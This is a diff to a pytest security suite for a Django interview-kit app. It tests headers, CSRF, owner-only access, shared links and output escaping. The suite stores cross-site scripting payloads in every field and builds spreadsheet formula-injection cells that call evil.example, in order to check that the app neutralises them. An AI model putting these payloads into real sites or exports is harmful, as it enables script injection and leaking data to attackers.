@@ -7,15 +7,19 @@ covered by adding a line:
 - `ACCESS`: which of the people in `people` may open each URL, and what the rest get;
 - `CSRF_POSTS`: state-changing forms and endpoints that must refuse a post without a token.
 `{placeholders}` in the URLs are filled from the `targets` fixture; add to it for new objects
-(a kit's code, say).
+(a kit's code, say). Kit pages are opened as the kit's owner: a `PAGES` entry may be a
+`(path, who)` pair naming the person who opens it.
 """
 
+import csv
+import io
 import json
 import re
 from datetime import timedelta
 from html.parser import HTMLParser
 from pathlib import Path
 
+import markdown
 import pytest
 from axes.models import AccessAttempt
 from django.conf import settings
@@ -23,8 +27,11 @@ from django.contrib.auth import password_validation
 from django.core.exceptions import ValidationError
 from django.test import Client
 from django.utils import timezone
+from markdown_it import MarkdownIt
+from pypdf import PdfReader
 
-from questions.models import Competency, Level, Question, QuestionType, Role
+from questions import kits
+from questions.models import Competency, Kit, KitItem, Level, Question, QuestionType, Role
 
 pytestmark = pytest.mark.django_db
 
@@ -37,6 +44,9 @@ PAGES = [
     "/competencies/{competency}/?level=senior",
     "/questions/{question}/",
     "/roles/{role}/",
+    "/search/",
+    "/search/?q={probe}",
+    "/search/?q={probe}&competency={competency}",
     "/accounts/login/",
     "/admin/",
     "/admin/questions/question/",
@@ -47,7 +57,33 @@ PAGES = [
     "/admin/questions/competency/{competency_id}/change/",
     "/admin/questions/role/",
     "/admin/questions/role/{role_id}/change/",
+    # Kit pages, as the kit's owner sees them; staff read any kit; the shared link signed out.
+    ("/kits/", "owner"),
+    ("/kits/?archived=1", "owner"),
+    ("/kits/new/", "owner"),
+    ("/kits/{kit}/", "owner"),
+    ("/kits/{kit}/?q={probe}", "owner"),
+    ("/kits/{kit}/edit/", "owner"),
+    ("/kits/{kit}/balance/", "owner"),
+    ("/kits/{kit}/balance/?target_minutes=60&competencies={competency}", "owner"),
+    ("/kits/{kit}/delete/", "owner"),
+    ("/kits/{kit}/items/{item}/edit/", "owner"),
+    ("/kits/{kit}/view/", "owner"),
+    ("/kits/{kit}/view/", "editor"),
+    ("/kits/{kit}/print/", "owner"),
+    ("/kits/shared/{share}/", "anonymous"),
 ]
+
+
+def page(entry: str | tuple[str, str]) -> tuple[str, str]:
+    """A `PAGES` entry as (path, who opens it): a bare path is the editor's."""
+    return (entry, "editor") if isinstance(entry, str) else entry
+
+
+def page_id(entry: str | tuple[str, str]) -> str:
+    path, who = page(entry)
+    return path if who == "editor" else f"{path} as {who}"
+
 
 # Stored in every text field of a competency, a role and a question, and sent in the query
 # string: a script, an image with a handler, and an attempt to break out of an attribute.
@@ -85,9 +121,29 @@ def audit(html: str) -> list[str]:
     return parser.problems
 
 
+def kit_targets(kit: Kit, spare: Question) -> dict:
+    """Placeholders for a kit's URLs. The kit is shared; `revoked` is a link turned off."""
+    revoked = kits.kit_share(kit=kit).share_token
+    kits.kit_revoke_share(kit=kit)
+    items = list(kit.items.order_by("position"))
+    return {
+        "kit": kit.code,
+        "item": items[0].pk,
+        "item2": items[-1].pk,
+        "spare": spare.slug,
+        "share": kits.kit_share(kit=kit).share_token,
+        "revoked": revoked,
+    }
+
+
 @pytest.fixture
-def targets(strategy, ops_manager, pricing_question) -> dict:
-    """Values for the {placeholders} in the page lists."""
+def targets(strategy, ops_manager, pricing_question, kit) -> dict:
+    """Values for the {placeholders} in the page lists: the conftest bank and the owner's kit."""
+    spare = Question.objects.create(
+        text="Which market would you enter next, and why?",
+        guidance="Sizes the market and names the risks.",
+        competency=strategy,
+    )
     return {
         "competency": strategy.slug,
         "competency_id": strategy.id,
@@ -96,12 +152,13 @@ def targets(strategy, ops_manager, pricing_question) -> dict:
         "question": pricing_question.slug,
         "question_id": pricing_question.id,
         "probe": "pricing",
+        **kit_targets(kit, spare),
     }
 
 
 @pytest.fixture
-def hostile(db) -> dict:
-    """A competency, role and question whose every text field holds the payload."""
+def hostile(owner) -> dict:
+    """A competency, role, questions and a kit whose every text field holds the payload."""
     competency = Competency.objects.create(
         slug="hostile", name=PAYLOAD, description=PAYLOAD, display_order=9
     )
@@ -114,6 +171,18 @@ def hostile(db) -> dict:
         level=Level.SENIOR,
     )
     question.roles.add(role)
+    kit = kits.kit_create(
+        owner=owner, title=PAYLOAD, role=role, notes=PAYLOAD, competencies=[competency]
+    )
+    item = kits.kit_add_question(kit=kit, question=question)
+    kits.kit_update_item(item=item, note=PAYLOAD)
+    # Rewritten in the bank after it was pinned: the builder shows both wordings side by side.
+    Question.objects.filter(pk=question.pk).update(
+        text=f"{PAYLOAD} Rewritten {PAYLOAD}", guidance=f"{PAYLOAD} Rewritten {PAYLOAD}"
+    )
+    spare = Question.objects.create(
+        text=f"Spare {PAYLOAD}", guidance=PAYLOAD, competency=competency, minutes=4
+    )
     return {
         "competency": competency.slug,
         "competency_id": competency.id,
@@ -122,6 +191,7 @@ def hostile(db) -> dict:
         "question": question.slug,
         "question_id": question.id,
         "probe": PAYLOAD,
+        **kit_targets(kit, spare),
     }
 
 
@@ -131,13 +201,47 @@ def fill(path: str, values: dict) -> str:
     return path.format(**{k: quote(str(v), safe="") for k, v in values.items()})
 
 
+def fill_data(data: dict, values: dict) -> dict:
+    """Form data with its {placeholders} filled in (lists stay lists)."""
+    return {
+        key: [item.format(**values) for item in value]
+        if isinstance(value, list)
+        else value.format(**values)
+        for key, value in data.items()
+    }
+
+
+@pytest.fixture
+def visitor(request):
+    """A client signed in as the named person (or anonymous)."""
+
+    def client_for(who: str) -> Client:
+        client = Client()
+        if who != "anonymous":
+            client.force_login(request.getfixturevalue(who))
+        return client
+
+    return client_for
+
+
+def kit_state() -> list:
+    """Every kit and kit item, every column: what a refused request must leave as it was."""
+    return [
+        list(Kit.objects.order_by("pk").values()),
+        list(KitItem.objects.order_by("pk").values()),
+    ]
+
+
 class TestHeaders:
-    @pytest.mark.parametrize("path", PAGES)
-    def test_every_page_sends_the_security_headers(self, editor_client, targets, path):
-        response = editor_client.get(fill(path, targets))
+    @pytest.mark.parametrize("entry", PAGES, ids=page_id)
+    def test_every_page_sends_the_security_headers(self, visitor, targets, entry):
+        path, who = page(entry)
+        response = visitor(who).get(fill(path, targets))
         assert response.status_code == 200
         assert response["X-Content-Type-Options"] == "nosniff"
-        assert response["Referrer-Policy"] == "same-origin"
+        # A shared kit tells browsers to send no referrer at all, so its link never leaks.
+        shared = path.startswith("/kits/shared/")
+        assert response["Referrer-Policy"] == ("no-referrer" if shared else "same-origin")
         assert response["X-Frame-Options"] == "DENY"
         assert response["Cross-Origin-Opener-Policy"] == "same-origin"
         assert "camera=()" in response["Permissions-Policy"]
@@ -150,10 +254,11 @@ class TestHeaders:
         assert policy["frame-ancestors"] == "'none'"
         assert "unsafe" not in response["Content-Security-Policy"]
 
-    @pytest.mark.parametrize("path", PAGES)
-    def test_no_page_has_inline_script_style_or_event_handlers(self, editor_client, targets, path):
+    @pytest.mark.parametrize("entry", PAGES, ids=page_id)
+    def test_no_page_has_inline_script_style_or_event_handlers(self, visitor, targets, entry):
         # The admin included: Django 5.2's admin runs under this CSP unchanged.
-        body = editor_client.get(fill(path, targets)).content.decode()
+        path, who = page(entry)
+        body = visitor(who).get(fill(path, targets)).content.decode()
         assert audit(body) == []
 
     def test_no_template_has_inline_script_style_or_event_handlers(self):
@@ -315,6 +420,26 @@ class TestSignInThrottling:
         password_validation.validate_password("plum-harbour-tractor-91", user=recruiter)
 
 
+# Every change to a kit, as (path, form data): only the kit's owner may make it.
+KIT_CHANGES = [
+    ("/kits/{kit}/edit/", {"title": "Taken over", "target_minutes": "10"}),
+    ("/kits/{kit}/balance/", {"target_minutes": "10"}),
+    ("/kits/{kit}/items/", {"question": "{spare}"}),
+    ("/kits/{kit}/items/{item}/remove/", {}),
+    ("/kits/{kit}/items/{item}/move/", {"direction": "down"}),
+    ("/kits/{kit}/items/{item}/edit/", {"minutes": "3", "note": "Taken over"}),
+    ("/kits/{kit}/items/{item}/wording/", {"choice": "accept"}),
+    ("/kits/{kit}/items/{item}/wording/", {"choice": "keep"}),
+    ("/kits/{kit}/order/", {"item": ["{item2}", "{item}"]}),
+    ("/kits/{kit}/duplicate/", {}),
+    ("/kits/{kit}/archive/", {}),
+    ("/kits/{kit}/archive/", {"archived": "0"}),
+    ("/kits/{kit}/delete/", {}),
+    ("/kits/{kit}/share/", {"action": "on"}),
+    ("/kits/{kit}/share/", {"action": "regenerate"}),
+    ("/kits/{kit}/share/", {"action": "off"}),
+]
+
 # (path, who signs in first or None, form data): each must be refused without a CSRF token.
 CSRF_POSTS = [
     ("/accounts/login/", None, {"username": "rita", "password": "a-long-test-password"}),
@@ -323,22 +448,35 @@ CSRF_POSTS = [
     ("/admin/logout/", "editor", {}),
     ("/admin/questions/question/{question_id}/change/", "editor", {"text": "Changed?"}),
     ("/admin/questions/question/", "editor", {"action": "retire", "_selected_action": "1"}),
+    ("/kits/new/", "owner", {"title": "Forged", "target_minutes": "30"}),
+    *[(path, "owner", data) for path, data in KIT_CHANGES],
 ]
 
 
+def csrf_id(value) -> str:
+    return json.dumps(value, sort_keys=True) if isinstance(value, dict) else str(value)
+
+
 class TestCsrf:
-    @pytest.mark.parametrize("path,who,data", CSRF_POSTS)
+    @pytest.mark.parametrize("htmx", [False, True], ids=["form", "htmx"])
+    @pytest.mark.parametrize("path,who,data", CSRF_POSTS, ids=csrf_id)
     def test_a_post_without_a_token_is_refused(
-        self, request, recruiter, editor, targets, path, who, data
+        self, request, recruiter, editor, targets, path, who, data, htmx
     ):
         client = Client(enforce_csrf_checks=True)
         if who:
             client.force_login(request.getfixturevalue(who))
-        response = client.post(fill(path, targets), data)
+        before = kit_state()
+        response = client.post(
+            fill(path, targets),
+            fill_data(data, targets),
+            headers={"HX-Request": "true"} if htmx else {},
+        )
         assert response.status_code == 403
         assert "This form has expired" in response.content.decode()
         if who:
             assert "_auth_user_id" in client.session  # still signed in: the post did nothing
+        assert kit_state() == before
 
     def test_htmx_requests_carry_the_token_from_the_body(self, recruiter):
         client = Client(enforce_csrf_checks=True)
@@ -349,31 +487,192 @@ class TestCsrf:
         assert response.status_code == 302
         assert "_auth_user_id" not in client.session
 
+    def test_the_builder_sends_the_token_with_its_htmx_changes(self, owner, targets):
+        client = Client(enforce_csrf_checks=True)
+        client.force_login(owner)
+        body = client.get(fill("/kits/{kit}/", targets)).content.decode()
+        headers = json.loads(re.search(r"<body hx-headers='([^']*)'", body).group(1))
+        response = client.post(
+            fill("/kits/{kit}/items/{item}/move/", targets),
+            {"direction": "down"},
+            headers={**headers, "HX-Request": "true"},
+        )
+        assert response.status_code == 200
+        assert Kit.objects.get().items.get(pk=targets["item"]).position == 2
+
 
 class TestEscaping:
-    @pytest.mark.parametrize("path", PAGES)
-    def test_stored_and_reflected_markup_is_shown_as_text(self, editor_client, hostile, path):
-        response = editor_client.get(fill(path, hostile))
+    @pytest.mark.parametrize("entry", PAGES, ids=page_id)
+    def test_stored_and_reflected_markup_is_shown_as_text(self, visitor, hostile, entry):
+        path, who = page(entry)
+        response = visitor(who).get(fill(path, hostile))
         assert response.status_code == 200
         body = response.content.decode()
         assert audit(body) == []
         assert PAYLOAD not in body
 
     @pytest.mark.parametrize(
-        "path",
+        "entry",
         [
             "/",
             "/competencies/{competency}/",
             "/questions/{question}/",
             "/roles/{role}/",
+            "/search/?q={probe}",
             "/admin/questions/question/",
             "/admin/questions/question/?q={probe}",
+            ("/kits/", "owner"),
+            ("/kits/{kit}/", "owner"),
+            ("/kits/{kit}/?q={probe}", "owner"),
+            ("/kits/{kit}/edit/", "owner"),
+            ("/kits/{kit}/balance/?target_minutes=60&competencies={competency}", "owner"),
+            ("/kits/{kit}/delete/", "owner"),
+            ("/kits/{kit}/items/{item}/edit/", "owner"),
+            ("/kits/{kit}/view/", "owner"),
+            ("/kits/{kit}/print/", "owner"),
+            ("/kits/shared/{share}/", "anonymous"),
+        ],
+        ids=page_id,
+    )
+    def test_the_payload_is_really_on_the_page_escaped(self, visitor, hostile, entry):
+        # Guards the test above against passing because nothing was shown at all.
+        path, who = page(entry)
+        body = visitor(who).get(fill(path, hostile)).content.decode()
+        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body
+
+    def test_the_builder_shows_a_rewritten_question_side_by_side_escaped(self, visitor, hostile):
+        body = visitor("owner").get(fill("/kits/{kit}/", hostile)).content.decode()
+        assert "An editor has changed this question" in body
+        # Only the diff's own <ins> is markup; the rewritten words inside it are escaped.
+        assert "<ins> Rewritten &lt;script&gt;alert(1)&lt;/script&gt;" in body
+        assert audit(body) == []
+
+    @pytest.mark.parametrize(
+        "path,data",
+        [
+            ("/kits/{kit}/items/", {"question": "{spare}"}),
+            ("/kits/{kit}/items/{item}/edit/", {"minutes": "x", "note": PAYLOAD}),
+            ("/kits/{kit}/items/{item}/edit/", {"minutes": "4", "note": PAYLOAD}),
+            ("/kits/{kit}/items/{item}/move/", {"direction": PAYLOAD}),
+            ("/kits/{kit}/order/", {"item": [PAYLOAD]}),
+            ("/kits/{kit}/items/{item}/wording/", {"choice": "keep"}),
+            ("/kits/{kit}/items/{item}/remove/", {}),
         ],
     )
-    def test_the_payload_is_really_on_the_page_escaped(self, editor_client, hostile, path):
-        # Guards the test above against passing because nothing was shown at all.
-        body = editor_client.get(fill(path, hostile)).content.decode()
+    def test_builder_updates_sent_to_htmx_are_escaped(self, visitor, hostile, path, data):
+        client = visitor("owner")
+        response = client.post(
+            fill(path, hostile), fill_data(data, hostile), headers={"HX-Request": "true"}
+        )
+        assert response.status_code in {200, 400}
+        body = response.content.decode()
+        assert audit(body) == []
+        assert PAYLOAD not in body
+
+    def test_the_bank_panel_sent_to_htmx_is_escaped(self, visitor, hostile):
+        response = visitor("owner").get(
+            fill("/kits/{kit}/?q={probe}", hostile),
+            headers={"HX-Request": "true", "HX-Target": "bank-results"},
+        )
+        body = response.content.decode()
+        assert "<html" not in body
+        assert audit(body) == [] and PAYLOAD not in body
+        assert "Spare &lt;script&gt;" in body
+
+    @pytest.mark.parametrize(
+        "path,data",
+        [
+            ("/kits/{kit}/items/", {"question": "{spare}"}),
+            ("/kits/{kit}/edit/", {"title": PAYLOAD, "target_minutes": "2", "notes": PAYLOAD}),
+            ("/kits/new/", {"title": PAYLOAD, "target_minutes": "0", "notes": PAYLOAD}),
+            ("/kits/{kit}/duplicate/", {}),
+        ],
+    )
+    def test_messages_and_form_errors_after_a_post_are_escaped(self, visitor, hostile, path, data):
+        client = visitor("owner")
+        response = client.post(fill(path, hostile), fill_data(data, hostile), follow=True)
+        assert response.status_code in {200, 400}
+        body = response.content.decode()
+        assert audit(body) == [] and PAYLOAD not in body
         assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body
+
+
+def flat(text: str) -> str:
+    """Text without whitespace: PDF text extraction breaks lines where the layout did."""
+    return re.sub(r"\s+", "", text)
+
+
+class TestKitExportsEscaping:
+    """The payload in every kit field comes out of each download as inert text."""
+
+    def test_the_pdf_shows_markup_as_text_and_runs_nothing(self, visitor, hostile):
+        response = visitor("owner").get(fill("/kits/{kit}/kit.pdf", hostile))
+        assert response.status_code == 200
+        pdf = PdfReader(io.BytesIO(response.content))
+        text = flat("".join(page.extract_text() for page in pdf.pages))
+        # Title, role, prep notes, competency heading, question, guidance and the item note:
+        # had WeasyPrint read any of them as markup, its text would be missing here.
+        assert text.count(flat(PAYLOAD)) == 7
+        catalog = pdf.trailer["/Root"]
+        assert "/OpenAction" not in catalog and "/AA" not in catalog
+        assert "/JavaScript" not in catalog.get("/Names", {})  # only the sheet's anchors
+        for sheet in pdf.pages:
+            assert "/Annots" not in sheet  # no links or actions
+            assert not sheet.images  # the <img> stayed text; nothing was fetched
+
+    def test_the_shared_pdf_too(self, visitor, hostile):
+        response = visitor("anonymous").get(fill("/kits/shared/{share}/kit.pdf", hostile))
+        pdf = PdfReader(io.BytesIO(response.content))
+        assert flat("".join(page.extract_text() for page in pdf.pages)).count(flat(PAYLOAD)) == 7
+
+    @pytest.mark.parametrize(
+        "render",
+        [
+            pytest.param(lambda text: MarkdownIt("commonmark").render(text), id="CommonMark"),
+            pytest.param(markdown.markdown, id="Python-Markdown"),
+        ],
+    )
+    def test_the_markdown_renders_markup_as_text(self, visitor, hostile, render):
+        # Both renderers pass raw HTML through, as most Markdown viewers do.
+        response = visitor("owner").get(fill("/kits/{kit}/kit.md", hostile))
+        html = render(response.content.decode())
+        assert audit(html) == []
+        assert "<script" not in html and "<img" not in html and "<b " not in html
+        # Title, role, prep notes, competency heading, question, guidance and the item note,
+        # each there as text.
+        assert html.count("&lt;script&gt;alert(1)") == 7
+        assert html.count("onerror=alert(2)&gt;") == 7
+
+    def test_the_markdown_reads_as_the_kit(self, visitor, hostile):
+        text = visitor("owner").get(fill("/kits/{kit}/kit.md", hostile)).content.decode()
+        html = MarkdownIt("commonmark").render(text)
+        assert html.startswith("<h1>&lt;script&gt;alert(1)&lt;/script&gt;")
+        assert "<h3>1. &lt;script&gt;" in html
+
+    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+    def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
+        self, visitor, owner, strategy, start
+    ):
+        formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
+        competency = Competency.objects.create(
+            slug="formulae", name=formula, description="D.", display_order=7
+        )
+        question = Question.objects.create(text=formula, guidance=formula, competency=competency)
+        kit = kits.kit_create(owner=owner, title=formula)
+        kits.kit_add_question(kit=kit, question=question)
+        # Stored as is: the kit pages strip a note's surrounding whitespace, other writers may not.
+        KitItem.objects.filter(kit=kit).update(note=formula)
+        response = visitor("owner").get(f"/kits/{kit.code}/kit.csv")
+        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+        # competency, question, what to look for, interviewer note
+        cells = [rows[1][1], rows[1][2], rows[1][3], rows[1][5]]
+        assert cells == ["'" + formula] * 4
+
+    def test_the_csv_keeps_markup_as_plain_text(self, visitor, hostile):
+        response = visitor("owner").get(fill("/kits/{kit}/kit.csv", hostile))
+        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+        assert rows[1][1:4] == [PAYLOAD, PAYLOAD, PAYLOAD]
+        assert rows[1][5] == PAYLOAD
 
 
 @pytest.fixture
@@ -398,11 +697,54 @@ EVERYONE_WITH_A_GROUP = {
     "colleague": 200,
     "editor": 200,
 }
+# Hiring managers build their own kits; other accounts are told why they cannot.
+KIT_BUILDERS = {
+    "anonymous": SIGN_IN,
+    "outsider": 403,
+    "recruiter": 403,
+    "owner": 200,
+    "colleague": 200,
+    "editor": 403,
+}
+# A kit's pages are its owner's; to anyone else its address is a 404, so it reveals nothing.
+KIT_OWNER = {
+    "anonymous": SIGN_IN,
+    "outsider": 404,
+    "recruiter": 404,
+    "owner": 200,
+    "colleague": 404,
+    "editor": 404,
+}
+# Staff read any kit (and never change it).
+KIT_READERS = {**KIT_OWNER, "editor": 200}
+SHARED_LINK = dict.fromkeys(EVERYONE_WITH_A_GROUP, 200)
+NOBODY = dict.fromkeys(EVERYONE_WITH_A_GROUP, 404)
 ACCESS = [
     ("/", EVERYONE_WITH_A_GROUP),
     ("/competencies/{competency}/", EVERYONE_WITH_A_GROUP),
     ("/questions/{question}/", EVERYONE_WITH_A_GROUP),
     ("/roles/{role}/", EVERYONE_WITH_A_GROUP),
+    ("/search/?q={probe}", EVERYONE_WITH_A_GROUP),
+    ("/kits/", KIT_BUILDERS),
+    ("/kits/?archived=1", KIT_BUILDERS),
+    ("/kits/new/", KIT_BUILDERS),
+    # Staff opening the builder are sent to the read-only interviewer view.
+    ("/kits/{kit}/", {**KIT_OWNER, "editor": 302}),
+    ("/kits/{kit}/edit/", KIT_OWNER),
+    ("/kits/{kit}/balance/", KIT_OWNER),
+    ("/kits/{kit}/balance/?target_minutes=30", KIT_OWNER),
+    ("/kits/{kit}/delete/", KIT_OWNER),
+    ("/kits/{kit}/items/{item}/edit/", KIT_OWNER),
+    ("/kits/{kit}/view/", KIT_READERS),
+    ("/kits/{kit}/print/", KIT_READERS),
+    ("/kits/{kit}/kit.pdf", KIT_READERS),
+    ("/kits/{kit}/kit.md", KIT_READERS),
+    ("/kits/{kit}/kit.csv", KIT_READERS),
+    ("/kits/shared/{share}/", SHARED_LINK),
+    ("/kits/shared/{share}/kit.pdf", SHARED_LINK),
+    ("/kits/shared/{revoked}/", NOBODY),
+    ("/kits/shared/{revoked}/kit.pdf", NOBODY),
+    ("/kits/shared/guessed-token/", NOBODY),
 ]
 
 
@@ -420,6 +762,40 @@ class TestAccess:
             else:
                 assert response.status_code == expected[who], who
 
+    @pytest.mark.parametrize("htmx", [False, True], ids=["form", "htmx"])
+    @pytest.mark.parametrize("path,data", KIT_CHANGES, ids=csrf_id)
+    def test_only_the_owner_changes_a_kit(self, people, targets, path, data, htmx):
+        url, data = fill(path, targets), fill_data(data, targets)
+        headers = {"HX-Request": "true"} if htmx else {}
+        if data.get("archived") == "0":
+            kits.kit_archive(kit=Kit.objects.get())
+        before = kit_state()
+        for who in ["anonymous", "outsider", "recruiter", "colleague", "editor"]:
+            response = people[who].post(url, data, headers=headers)
+            if who == "anonymous":
+                assert response.status_code == 302, who
+                assert response["Location"].startswith("/accounts/login/?next="), who
+            else:
+                assert response.status_code == 404, who
+            assert kit_state() == before, who
+        # Guards the refusals above: the same request from the owner goes through.
+        response = people["owner"].post(url, data, headers=headers)
+        assert response.status_code in {200, 302}
+        assert kit_state() != before or data in ({"choice": "accept"}, {"action": "on"})
+
+    def test_a_colleague_sees_only_their_own_kits_in_the_list(self, people, targets):
+        kits.kit_create(owner=Kit.objects.get().owner, title="Olivia's second kit")
+        page = people["colleague"].get("/kits/").content.decode()
+        assert "Ops manager first interview" not in page
+        assert "Olivia's second kit" not in page
+        assert "Ops manager first interview" in people["owner"].get("/kits/").content.decode()
+
+    def test_a_shared_link_stops_working_for_everyone_once_turned_off(self, people, targets):
+        url = fill("/kits/shared/{share}/", targets)
+        people["owner"].post(fill("/kits/{kit}/share/", targets), {"action": "off"})
+        for who, client in people.items():
+            assert client.get(url).status_code == 404, who
+
     def test_a_refusal_is_the_site_403_page(self, people, targets):
         response = people["outsider"].get("/")
         assert response.status_code == 403
@@ -435,6 +811,22 @@ class TestAccess:
                 "colleague",
                 "editor",
             }
+
+    def test_every_kit_address_is_in_the_access_tables(self):
+        from django.urls import get_resolver
+
+        covered = {path for path, _ in ACCESS} | {path for path, _ in KIT_CHANGES}
+        kit_routes = [
+            str(pattern.pattern)
+            for pattern in get_resolver().url_patterns
+            if getattr(pattern, "namespace", None) == "questions"
+            for pattern in pattern.url_patterns
+        ]
+        kit_routes = [route for route in kit_routes if route.startswith("kits/")]
+        assert kit_routes
+        for route in kit_routes:
+            pattern = re.sub(r"<[^>]+>", "[^/]+", route)
+            assert any(re.fullmatch("/" + pattern, path.split("?")[0]) for path in covered), route
 
     def test_the_bank_is_open_to_all_only_when_public_browsing_is_on(
         self, client, settings, targets
